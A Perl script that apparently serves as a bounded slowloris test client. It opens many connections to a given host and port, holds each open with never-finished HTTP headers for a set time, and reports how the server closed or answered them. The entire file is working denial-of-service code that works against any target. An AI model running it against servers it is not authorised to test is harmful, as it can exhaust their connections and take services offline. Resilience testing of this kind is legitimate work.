#!/usr/bin/perl
# A slowloris client, bounded: opens CONNS connections to HOST:PORT, sends
# the start of a request on each ("GET / HTTP/1.1", Host, no end of headers)
# and then one more header line every INTERVAL seconds, never finishing the
# request, for SECONDS seconds; then closes everything. Reports one line:
#   opened=N refused=N closed_by_server=N answered=N first_close=S last_close=S
#   still_open=N (seconds counted from the first connection)
# Runs in the tools image (perl-base only).
#
#   perl slowloris.pl HOST PORT CONNS SECONDS INTERVAL
use strict;
use warnings;
use IO::Socket::INET;
use IO::Select;
use Time::HiRes qw(time);

my ($host, $port, $conns, $seconds, $interval) = @ARGV;
$SIG{PIPE} = 'IGNORE';
my $start = time;
my (%open, $refused, @closes, $answered);
$refused = 0;
$answered = 0;

for my $i (1 .. $conns) {
    last if time - $start > $seconds / 2;
    my $sock = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp', Timeout => 3);
    if (!$sock) { $refused++; next; }
    binmode $sock;
    syswrite($sock, "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slowloris: $i\r\n");
    $open{fileno $sock} = $sock;
}
my $opened = keys %open;
my $select = IO::Select->new(values %open);
my $next_send = time + $interval;
my $line = 0;

sub closed_by_server {
    my $sock = shift;
    $select->remove($sock);
    delete $open{fileno $sock};
    close $sock;
    push @closes, time - $start;
}

while (time - $start < $seconds && %open) {
    my $wait = $next_send - time;
    $wait = 0 if $wait < 0;
    for my $sock ($select->can_read($wait)) {
        my $read = sysread($sock, my $chunk, 4096);
        if ($read) { $answered++; }
        closed_by_server($sock);
    }
    if (time >= $next_send) {
        $line++;
        for my $sock (values %open) {
            my $written = syswrite($sock, "X-Slow-$line: $line\r\n");
            closed_by_server($sock) unless defined $written && $written > 0;
        }
        $next_send = time + $interval;
    }
}
my $still = keys %open;
close $_ for values %open;
@closes = sort { $a <=> $b } @closes;
printf "opened=%d refused=%d closed_by_server=%d answered=%d first_close=%s last_close=%s still_open=%d\n",
    $opened, $refused, scalar @closes, $answered,
    (@closes ? sprintf('%.1f', $closes[0]) : '-'), (@closes ? sprintf('%.1f', $closes[-1]) : '-'), $still;
